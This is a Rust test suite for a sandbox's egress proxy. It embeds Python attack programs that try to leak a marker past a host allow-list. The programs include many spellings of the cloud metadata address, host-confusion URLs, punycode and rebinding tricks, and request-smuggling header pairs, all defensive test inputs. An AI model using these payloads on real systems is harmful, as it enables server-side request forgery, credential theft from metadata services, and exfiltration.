//! Attacks on the network through the proxy: what a list of allowed names does not let through.
//!
//! Each attack tries its trick at the proxy it was offered, and past it. It has succeeded when the
//! outside of an internet of our own hears a word that was only said inside.

use std::net::TcpListener;

use warrant_sandbox::Network;

use crate::attacks::scene::{Played, Scene, Verdict, next_number};
use crate::network::internet::{PUBLIC, internet};

crate::attacks::attacks!("network through the proxy", hold_on_internet:
    denied_name_is_not_reached Always,
    denied_name_is_not_looked_up Always,
    a_list_of_hosts_does_not_open_the_whole_network Always,
    ip_literals_in_every_spelling_are_not_reached Always,
    user_info_does_not_name_another_host Always,
    fragments_do_not_name_another_host Always,
    percent_and_nul_do_not_name_another_host Always,
    trailing_dots_and_case_do_not_dodge_a_deny_rule Always,
    punycode_does_not_name_another_host Always,
    tunnel_to_an_allowed_host_carries_no_other_host_header Always,
    tunnel_to_an_allowed_host_carries_no_other_server_name Always,
    allowed_name_resolving_to_private_is_not_reached Always,
    allowed_name_resolving_to_loopback_is_not_reached Always,
    allowed_name_resolving_to_metadata_is_not_reached Always,
    allowed_name_resolving_to_nat64_is_not_reached Always,
    allowed_name_resolving_to_6to4_is_not_reached Always,
    allowed_name_resolving_to_site_local_is_not_reached Always,
    rebinding_to_a_private_address_is_not_reached Always,
    kept_connection_does_not_reach_a_second_host Always,
    smuggled_lengths_hide_no_request Always,
    redirect_does_not_reach_a_denied_host Always,
    other_ports_of_an_allowed_host_are_not_reached Always,
);

/// What of an attack was heard and said.
struct Heard {
    mark: String,
    played: Played,
}

impl Heard {
    /// Broken when the outside heard the mark.
    fn verdict(&self) -> Verdict {
        let said = self.played.memory.stdout();
        Verdict::broken_if(internet().noticed(&self.mark), format!("the outside heard it: {said}"))
    }
}

/// Lets a Python program play on our internet, with these rules.
fn play(scene: &Scene, rules: &[&str], program: &str) -> Heard {
    let mark = format!("leak{}", next_number());
    let program = format!("{}\n\n{program}\n", include_str!("through.py"));
    std::fs::write(scene.workspace().join("attack.py"), program).unwrap();
    let mut invocation = scene.script(&format!("exec /usr/bin/python3 attack.py {mark} 2>&1"));
    invocation.network = Network::Allow(rules.iter().map(|rule| (*rule).to_owned()).collect());
    let played = internet().on_host(|| scene.play_invocation(invocation));
    assert!(!played.said("Traceback"), "{}", played.memory.stdout());
    Heard { mark, played }
}

fn denied_name_is_not_reached(scene: &Scene) -> Verdict {
    play(scene, &["public.test"], "every_way('other.test')").verdict()
}

fn denied_name_is_not_looked_up(scene: &Scene) -> Verdict {
    let program = "name = MARK + '.test'\nevery_way(name)\nquietly(socket.gethostbyname, name)";
    play(scene, &["public.test"], program).verdict()
}

fn a_list_of_hosts_does_not_open_the_whole_network(scene: &Scene) -> Verdict {
    let program = format!(
        "for port in (80, 443, 8080):\n    quietly(say, ('{PUBLIC}', port), plain('public.test'))\n\
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:\n    quietly(s.sendto, MARK.encode(), ('{PUBLIC}', 9999))"
    );
    play(scene, &["other.test"], &program).verdict()
}

fn ip_literals_in_every_spelling_are_not_reached(scene: &Scene) -> Verdict {
    let program = "for host in ('169.254.169.254', '169.254.43518', '169.16689662', '2852039166', '0xa9fea9fe',\n\
        \x20   '0xa9.0xfe.0xa9.0xfe', '0251.0376.0251.0376', '169.254.169.254.', '[::ffff:169.254.169.254]',\n\
        \x20   '[::ffff:a9fe:a9fe]', '[::169.254.169.254]', '[64:ff9b::169.254.169.254]', '[2002:a9fe:a9fe::1]',\n\
        \x20   '[fe80::1%25eth0]', '１６９.254.169.254', '%31%36%39.254.169.254', '①⑥⑨.254.169.254'):\n\
        \x20   by_proxy(request(f'http://{host}/{MARK}', host))\n\
        \x20   tunnel(f'{host}:80', plain(host))\n\
        quietly(say, ('169.254.169.254', 80), plain('169.254.169.254'))";
    play(scene, &["public.test"], program).verdict()
}

/// Targets that name an allowed host to one reader and another to the next, and the way past them.
fn spelled(scene: &Scene, authorities: &str) -> Verdict {
    let program = format!(
        "for authority in ({authorities}):\n\
         \x20   for host in ('public.test', 'other.test'):\n\
         \x20       by_proxy(request(f'http://{{authority}}/{{MARK}}', host))\n\
         \x20   tunnel(authority + ':80', plain('other.test'))\n\
         direct('other.test', plain('other.test'))"
    );
    play(scene, &["public.test"], &program).verdict()
}

fn user_info_does_not_name_another_host(scene: &Scene) -> Verdict {
    spelled(
        scene,
        "'public.test@other.test', 'public.test:80@other.test', 'a:public.test@other.test'",
    )
}

fn fragments_do_not_name_another_host(scene: &Scene) -> Verdict {
    spelled(
        scene,
        "'other.test#@public.test', 'other.test#.public.test', 'other.test\\\\@public.test', 'other.test?.public.test'",
    )
}

fn percent_and_nul_do_not_name_another_host(scene: &Scene) -> Verdict {
    spelled(
        scene,
        "'other.test%00.public.test', 'other.test%23.public.test', 'other.test\\0.public.test', 'other.test\\t.public.test', 'other%2etest'",
    )
}

fn trailing_dots_and_case_do_not_dodge_a_deny_rule(scene: &Scene) -> Verdict {
    let program = "for host in ('bad.public.test', 'BAD.public.test', 'bad.PUBLIC.test.', 'bad.public.test..'):\n    every_way(host)";
    play(scene, &["*.public.test", "public.test", "!bad.public.test"], program).verdict()
}

fn punycode_does_not_name_another_host(scene: &Scene) -> Verdict {
    let program = "for host in ('xn--other-.test', 'ｏther.test', 'other。test', 'xn--a.test'):\n    by_proxy(request(f'http://{host}/{MARK}', host))\n    tunnel(f'{host}:80', plain(host))\n\
        direct('other.test', plain('other.test'))";
    play(scene, &["public.test", "bücher.test"], program).verdict()
}

fn tunnel_to_an_allowed_host_carries_no_other_host_header(scene: &Scene) -> Verdict {
    let program = "tunnel('public.test:80', plain('other.test'))\n\
        by_proxy(request(f'http://public.test/{MARK}', 'other.test'))\n\
        direct('public.test', plain('other.test'))";
    play(scene, &["public.test"], program).verdict()
}

fn tunnel_to_an_allowed_host_carries_no_other_server_name(scene: &Scene) -> Verdict {
    let program = "first = hello(MARK + '.test')\ntunnel('public.test:443', first)\ndirect('public.test', first, port=443)";
    play(scene, &["public.test"], program).verdict()
}

fn resolving_to(scene: &Scene, name: &str, kind: u8) -> Verdict {
    play(scene, &[name], &format!("every_way('{name}', kind={kind})")).verdict()
}

fn allowed_name_resolving_to_private_is_not_reached(scene: &Scene) -> Verdict {
    resolving_to(scene, "private.test", 1)
}

fn allowed_name_resolving_to_metadata_is_not_reached(scene: &Scene) -> Verdict {
    resolving_to(scene, "metadata.test", 1)
}

fn allowed_name_resolving_to_nat64_is_not_reached(scene: &Scene) -> Verdict {
    resolving_to(scene, "nat64.test", 28)
}

fn allowed_name_resolving_to_6to4_is_not_reached(scene: &Scene) -> Verdict {
    resolving_to(scene, "sixtofour.test", 28)
}

fn allowed_name_resolving_to_site_local_is_not_reached(scene: &Scene) -> Verdict {
    resolving_to(scene, "sitelocal.test", 28)
}

fn allowed_name_resolving_to_loopback_is_not_reached(scene: &Scene) -> Verdict {
    let service = internet().on_host(|| TcpListener::bind("127.0.0.1:0").unwrap());
    service.set_nonblocking(true).unwrap();
    let port = service.local_addr().unwrap().port();
    let rule = format!("loopback.test:{port}");
    play(scene, &[&rule], &format!("every_way('loopback.test', port={port})"));
    Verdict::broken_if(service.accept().is_ok(), "a service of the host's own was reached")
}

fn rebinding_to_a_private_address_is_not_reached(scene: &Scene) -> Verdict {
    // The first answer is public and every later one is not. A proxy may keep it for ten seconds.
    let program = "import time\nname = f'rebind-{MARK}.public.test'\n\
        by_proxy(request(f'http://{name}/first', name))\nquietly(ask, name)\n\
        time.sleep(11 if PROXY else 0)\nevery_way(name)";
    let heard = play(scene, &["*.public.test"], program);
    let leaked = format!("169.254.169.254:80 said GET /{}", heard.mark);
    Verdict::broken_if(internet().noticed(&leaked), "the second answer was believed")
}

fn kept_connection_does_not_reach_a_second_host(scene: &Scene) -> Verdict {
    let program = "by_proxy(request('http://public.test/', 'public.test'), request(f'http://other.test/{MARK}', 'other.test'))\n\
        tunnel('public.test:80', 'GET / HTTP/1.1\\r\\nHost: public.test\\r\\n\\r\\n', plain('other.test'))\n\
        direct('other.test', plain('other.test'))";
    play(scene, &["public.test"], program).verdict()
}

fn smuggled_lengths_hide_no_request(scene: &Scene) -> Verdict {
    let program = "hidden = plain('other.test')\n\
        for lengths in (f'Content-Length: 5\\r\\nTransfer-Encoding: chunked', f'Content-Length: 5\\r\\nContent-Length: {len(hidden) + 5}',\n\
        \x20   'Transfer-Encoding: xchunked', 'Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity', 'Content-Length: +5'):\n\
        \x20   head = f'POST http://public.test/ HTTP/1.1\\r\\nHost: public.test\\r\\n{AUTH}{lengths}\\r\\n\\r\\n0\\r\\n\\r\\n'\n\
        \x20   by_proxy(head + hidden)\n\
        \x20   plainly = head.replace('http://public.test/', '/').replace(AUTH, '')\n\
        \x20   tunnel('public.test:80', plainly + hidden)\n\
        \x20   direct('public.test', plainly + hidden)";
    play(scene, &["public.test"], program).verdict()
}

fn redirect_does_not_reach_a_denied_host(scene: &Scene) -> Verdict {
    let program = "import urllib.request\n\
        start = f'http://public.test/redirect/other.test/{MARK}/end'\n\
        direct('other.test', f'GET /{MARK}/end HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')\n\
        try:\n    urllib.request.urlopen(start, timeout=4).read()\nexcept OSError:\n    pass";
    let heard = play(scene, &["public.test"], program);
    let end = format!("said GET /{}/end", heard.mark);
    Verdict::broken_if(internet().noticed(&end), "the redirect was followed outside")
}

fn other_ports_of_an_allowed_host_are_not_reached(scene: &Scene) -> Verdict {
    play(scene, &["public.test"], "every_way('public.test', port=8080)").verdict()
}
